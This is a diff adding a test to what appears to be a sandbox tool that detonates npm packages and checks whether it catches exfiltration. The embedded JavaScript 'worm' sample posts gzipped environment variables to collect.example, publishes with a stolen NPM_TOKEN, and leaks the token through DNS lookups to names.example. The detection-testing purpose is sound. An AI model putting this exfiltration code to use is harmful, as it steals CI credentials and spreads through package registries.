@@ -326,3 +326,30 @@ def test_a_shape_of_an_incident_is_seen(detonate: Detonate, tmp_path: Path, shap
     assert SHAPED[shape] <= kinds(run), run["output"]
     own = [one for one in run["behaviours"] if one["kind"] in SHAPED[shape] and one.get("cause")]
     assert {one["cause"]["name"] for one in own} == {"anchor"}
+
+
+WORM = """\
+// Inert: the shape of a worm. It sends a made-up token by TLS, publishes to the sandbox's registry, and asks names.
+const https = require("https"), http = require("http"), dns = require("dns"), zlib = require("zlib");
+const token = process.env.NPM_TOKEN || "";
+const body = zlib.gzipSync(JSON.stringify({ env: process.env }));
+https.request({ host: "collect.example", method: "POST", path: "/v1/e", headers: { "Content-Length": body.length } }).on("error", () => {}).end(body);
+http.request({ host: "registry.test", method: "PUT", path: "/anchor", headers: { Authorization: `Bearer ${token}`, "Content-Length": 2 } }).on("error", () => {}).end("{}");
+const hex = Buffer.from(token).toString("hex");
+for (let at = 0; at * 40 < hex.length; at++) dns.lookup(`${at}.${hex.slice(at * 40, at * 40 + 40)}.names.example`, () => {});
+"""
+
+
+def test_tls_publishing_and_names_carry_what_was_planted(detonate: Detonate, tmp_path: Path) -> None:
+    ran = detonate("--json", "--persona", "ci", packed(tmp_path, "anchor", files={"index.js": WORM}))
+    assert ran.code == 13, ran.errors
+    run = ran.of("ci")
+    by = {(one["protocol"], one["host"]): one for one in run["payloads"]}
+    secure = by["https", "collect.example"]
+    assert {"NPM_TOKEN", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN"} <= set(secure["honeytokens"])
+    assert "NPM_TOKEN (gzip)" in secure["encodings"]
+    published = by["http", "registry.test"]
+    assert (published["method"], published["honeytokens"]) == ("PUT", ["NPM_TOKEN"])
+    named = [one for one in run["events"] if one["kind"] == "network.payload" and one["protocol"] == "dns"]
+    assert [one["honeytokens"] for one in named] == [["NPM_TOKEN"]]
+    assert {one["cause"]["step"] for one in named} == {"import"}
